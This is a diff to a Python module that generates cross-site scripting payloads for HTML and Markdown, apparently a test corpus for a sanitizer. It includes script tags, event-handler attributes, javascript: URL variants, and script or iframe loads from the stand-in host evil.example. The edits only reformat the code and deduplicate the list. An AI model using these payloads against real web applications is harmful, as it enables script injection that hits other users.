@@ -2,7 +2,7 @@
 
 from itertools import product
 
-_HTML = r"""
+_HTML = r'''
 <script>alert(1)</script>
 <SCRIPT SRC=//evil.example/x.js></SCRIPT>
 <scr<script>ipt>alert(1)</scr</script>ipt>
@@ -99,7 +99,7 @@ _HTML = r"""
 <del cite="//evil.example/">x</del>
 <button popovertarget=x onbeforetoggle=alert(1)>x</button>
 <div onwheel=alert(1) ontouchstart=alert(1)>x</div>
-"""
+'''
 
 _SCHEMES = [
     "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
@@ -129,7 +129,8 @@ _MARKDOWN = [
     "[^\"><script>]: x\n\nuse[^\"><script>]", "x[^1]\n\n[^1]: <script>alert(1)</script>", "^[<img src=x onerror=a>]",
     "- [x] <script>alert(1)</script>", "# <script>alert(1)</script>", "> <iframe src=//evil.example>",
     "https://evil.example/\"onmouseover=\"alert(1)", "www.evil.example/<script>", "a@evil.example\"onclick=alert(1)",
-    "[r]: javascript:alert(1) '\"><script>'\n\n[r]", "[x]: https://evil.example/p.png\n\n![x]", "&lt;script&gt;alert(1)",
+    "[r]: javascript:alert(1) '\"><script>'\n\n[r]", "[x]: https://evil.example/p.png\n\n![x]",
+    "&lt;script&gt;alert(1)",
     "&#60;script&#62;alert(1)&#60;/script&#62;", "<https://evil.example/?\"onclick=alert(1)>", "{{7*7}} ${7*7} %s%n",
     "[x](javascript&#58;alert(1))", "[x](java\nscript:alert(1))", "![x](data:image/png;base64,AAAA)",
 ]  # fmt: skip
@@ -141,4 +142,4 @@ def all_payloads() -> list[str]:
     links = [form.format(address) for form, address in product(_LINK_FORMS, _SCHEMES)]
     wraps = ("- {}", "> {}", "**{}**", "|{}|\n|-|", "[{}](https://a.example)", "\\\n{}", "{}\n\n    {}")
     wrapped = [wrap.replace("{}", line) for wrap, line in product(wraps, html)]
-    return html + links + _MARKDOWN + wrapped
+    return list(dict.fromkeys(html + links + _MARKDOWN + wrapped))
